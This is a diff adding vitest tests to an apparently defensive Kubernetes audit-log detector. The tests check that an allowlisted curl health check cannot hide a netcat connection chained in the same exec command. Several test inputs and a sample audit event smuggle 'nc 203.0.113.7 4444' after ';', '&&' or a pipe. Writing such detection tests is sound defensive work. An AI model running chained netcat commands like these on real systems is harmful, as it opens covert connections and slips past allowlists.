@@ -1,7 +1,9 @@
 import { describe, expect, it } from "vitest";
 import { type AllowlistEntry, EMPTY_ALLOWLIST, parseAllowlist } from "../../src/detection/allowlist.js";
+import { evaluate } from "../../src/detection/rule.js";
 import { AllowlistError } from "../../src/errors.js";
 import type { Finding } from "../../src/model.js";
+import { processBatch } from "../../src/pipeline.js";
 import { findingOf, processEvent, run, session } from "./factory.js";
 
 function allowlistOf(entries: AllowlistEntry[] | Record<string, unknown>[]) {
@@ -396,5 +398,58 @@ describe("the README's example entries", () => {
     ],
   ])("%s → entry %s", (_label, finding, expected) => {
     expect(allowlist.match(finding)).toBe(expected);
+  });
+});
+
+describe("an entry speaks for one command segment", () => {
+  const allowlist = allowlistOf([README_HEALTH_ENTRY]);
+  const allowed = (finding: Finding) => allowlist.match(finding) !== null;
+  const probe = "/usr/bin/curl -fsS http://payments-api.payments.svc.cluster.local:8080/healthz";
+
+  it.each([
+    ["after `;`", `${probe}; /usr/bin/nc 203.0.113.7 4444`],
+    ["after `&&`", `${probe} && nc 203.0.113.7 4444`],
+    ["in a pipeline", `${probe} | nc 203.0.113.7 4444`],
+    ["before the probe", `nc 203.0.113.7 4444; ${probe}`],
+  ])("a health check %s never silences the nc of the same kubectl exec", (_where, payload) => {
+    const verdict = evaluate(session("sh", "-c", payload), allowed);
+    expect(verdict.kind).toBe("finding");
+    if (verdict.kind !== "finding") return;
+    expect(verdict.finding.utility.name).toBe("nc");
+    expect(verdict.finding.process.args).toEqual(["203.0.113.7", "4444"]);
+    expect(allowlist.match(verdict.finding)).toBeNull();
+  });
+
+  it("still suppresses a session that only runs the health check", () => {
+    const verdict = evaluate(session("sh", "-c", `${probe}; ${probe}`), allowed);
+    expect(verdict.kind === "finding" && allowlist.match(verdict.finding)).toBe(0);
+  });
+
+  it("through the pipeline: the exec session yields the nc signal, nothing is counted as suppressed", () => {
+    const audit = {
+      kind: "Event",
+      apiVersion: "audit.k8s.io/v1",
+      auditID: "5b0c1d2e-0000-4000-8000-13a11015e0a1",
+      stage: "ResponseStarted",
+      requestURI: `/api/v1/namespaces/payments/pods/api-1/exec?command=sh&command=-c&command=${encodeURIComponent(`${probe}; /usr/bin/nc 203.0.113.7 4444`)}&container=api&stdout=true`,
+      verb: "create",
+      user: { username: "mallory" },
+      sourceIPs: ["198.51.100.7"],
+      objectRef: { resource: "pods", namespace: "payments", name: "api-1", subresource: "exec" },
+      responseStatus: { code: 101 },
+      requestReceivedTimestamp: "2026-03-15T22:11:07.402000Z",
+    };
+    const { signals, stats } = processBatch(
+      {
+        owner: "123456789012",
+        logGroup: "/aws/eks/prod-eks/cluster",
+        logStream: "kube-apiserver-audit-0123456789abcdef",
+        subscriptionFilters: ["netutil"],
+        logEvents: [{ id: "1", timestamp: 1773612667402, message: JSON.stringify(audit) }],
+      },
+      { minSeverity: "low", allowlist },
+    );
+    expect(stats.suppressed).toBe(0);
+    expect(signals.map((s) => [s.process.name, s.process.args])).toEqual([["nc", ["203.0.113.7", "4444"]]]);
   });
 });
